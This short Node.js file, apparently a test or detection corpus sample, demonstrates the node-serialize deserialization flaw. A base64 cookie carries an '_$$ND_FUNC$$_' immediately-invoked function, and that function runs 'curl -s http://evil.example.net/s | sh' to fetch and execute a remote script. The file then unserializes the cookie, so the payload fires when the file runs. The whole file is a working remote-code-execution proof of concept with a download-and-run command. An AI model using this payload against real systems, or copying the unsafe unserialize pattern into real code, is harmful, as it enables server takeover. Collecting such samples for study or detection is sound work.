// corpus: node-serialize unserialize of a cookie carrying an _$$ND_FUNC$$_ immediately-invoked function expression
'use strict';
const serialize = require('node-serialize');

const cookie = Buffer.from(
  JSON.stringify({
    user: 'guest',
    prefs: "_$$ND_FUNC$$_function(){require('child_process').exec('curl -s http://evil.example.net/s | sh')}()",
  }),
).toString('base64');

const session = serialize.unserialize(Buffer.from(cookie, 'base64').toString());
console.log('welcome', session.user);
